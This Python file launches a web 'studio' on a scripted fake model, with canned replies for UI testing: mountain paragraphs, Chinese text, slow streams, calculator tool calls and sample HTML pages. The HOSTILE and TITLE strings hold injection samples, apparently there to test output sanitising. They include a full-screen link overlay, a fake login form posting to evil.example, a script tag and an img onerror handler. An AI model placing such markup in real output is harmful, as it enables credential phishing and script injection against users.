"""A studio on the scripted engine, where a script makes the case:
`python scripted.py PORT DATA [small|pages|/SUB-PATH]`."""

from __future__ import annotations

import sys
from pathlib import Path

from studio.protocol import ModelCard
from studio.specs import Reply, ScriptedSpec

PARAGRAPHS = (
    "The mountains stand behind the village, and in the morning their snow turns pink.",
    "A path climbs between the pines to a hut where tea is served all day.",
    "Above the hut only birds and stones are left, and the wind.",
    "In the evening the walkers come down again, tired and content.",
)
CHINESE = "清晨，村后的雪山染成了粉色。\n\n松林间有一条小路通向茶屋。\n\n傍晚，登山的人下山了。"
LONG = "\n\n".join(f"Mile {i}. " + "The road goes on and on. " * 10 for i in range(60))
HOSTILE = """\
**Bold** and `<b>code</b>`.

<a href="https://evil.example" style="position:fixed;inset:0" class="modal" id="start">everywhere</a>

<form action="https://evil.example"><input name="word"><button>Log in</button></form>

<script>document.title = "run"</script> <img src=x onerror="document.title='run'"> ![x](https://evil.example/x.png)
"""
TITLE = """\
[a]: b "
```
"
<form action="https://evil.example"><input name="word"></form>
```
"""
SPEC = ScriptedSpec(
    tuple(
        Reply(text, match, **({"times": 0} | more))
        for match, text, more in (
            ("short title for an article about 写", '山中一日"', {}),
            ("short title", 'Mountains"', {}),
            ("words.\n\n清晨", "天刚亮，雪山映着朝霞。", {}),
            ("写一篇关于高山", CHINESE, {}),
            ("Rewrite this text in other words.", "At dawn the mountains glow above the village.", {}),
            ("Write a paragraph about", "A bridge of ropes leads over the stream.", {}),
            ("List the parts", " The harvest\n2. The market\n3. The meal\n", {}),
            ("endless", LONG, {"times": 1, "reason": "length"}),
            ("endless", "Words come one by one. " * 400, {"pace": 0.02}),
            ("unfinished", "\n\n".join(PARAGRAPHS[:3]), {"reason": "length"}),
            ("long", LONG, {}),
            ("patience", "Words come one by one. " * 40, {"pace": 0.03}),  # 6 s
            ("a moment", "Words come one by one. " * 12, {"pace": 0.03}),  # 2 s
            ("quickly", "Words come one by one. " * 800, {"pace": 0.004}),
            ("slowly", "Words come one by one. " * 400, {"pace": 0.02}),
            (
                "compute the sum",
                '<tool_call>\n{"name": "calculator", "arguments": {"expression": "1360/2"}}\n</tool_call>',
                {"times": 1},
            ),
            ("compute the sum", "It is 680.", {}),
            (
                "half of",
                '<tool_call>\n{"name": "calculator", "arguments": {"expression": "1360/2"}}\n</tool_call>',
                {"times": 1},
            ),
            ("half of", "Half of it is 680.", {}),
            ("hostile title", TITLE, {}),
            ("hostile", HOSTILE, {}),
            ("", "\n\n".join(PARAGRAPHS), {}),
        )
    ),
    ModelCard("scripted model", "starter", ("en", "zh"), sees=False, context=65536, beams=5),
)
# A model that sees, with room for little.
SMALL = ScriptedSpec(
    (
        Reply("<Seg0>", "选择适合插入图像", times=0),
        Reply('A view"', "图像对应的标题", times=0),
        Reply(CHINESE, times=0),
    ),
    ModelCard("small model", "xcomposer2", ("en", "zh"), sees=True, context=1200, image_tokens=256),
)

PAGE = """```html
<!DOCTYPE html>
<html><head><title>Quiet tea house</title><style>h1 { color: rgb(1, 2, 3); }</style></head>
<body><h1>Tea</h1><img src="https://source.unsplash.com/random/400x300/?bread" alt="bread on a table">
<p id="ran">No script ran.</p><script>document.getElementById("ran").textContent = "A script ran.";</script>
<p><a href="#menu">Menu</a></p><p id="menu">Green tea</p></body></html>
```"""
# A model that makes web pages, and sees pictures cut into tiles.
PAGES = ScriptedSpec(
    (
        Reply("<html><body><h1>Halfway</h1><p>" + "words and " * 400, "slow page", pace=0.02, times=0),
        Reply(PAGE.replace("rgb(1, 2, 3)", "rgb(0, 0, 255)"), "Change the html code: make the heading blue", times=0),
        Reply(PAGE, pace=0.005, times=0),
    ),
    ModelCard(
        "page model", "xcomposer2.5", ("en", "zh"), sees=True, context=16384, beams=5, image_tokens=800,
        adapters=("write", "web"), tile_tokens=420,
    ),
)  # fmt: skip


def main(port: int, data: Path, spec: ScriptedSpec = SPEC, root_path: str = "") -> None:
    """Serve until ended."""
    from studio.app import Studio  # here, since the worker process imports this file again, and needs none of it
    from studio.settings import Settings
    from studio.ui.server import application
    from studio.ui.server.listen import server_options
    from studio.ui.shutdown import Server

    settings = Settings(port=port, data=str(data), root_path=root_path)
    with Studio(settings, spec) as studio:
        Server(studio, application(studio), **server_options(settings)).run()


if __name__ == "__main__":
    third = "".join(sys.argv[3:])
    chosen = {"small": SMALL, "pages": PAGES}.get(third, SPEC)
    main(int(sys.argv[1]), Path(sys.argv[2]), chosen, third if third[:1] == "/" else "")
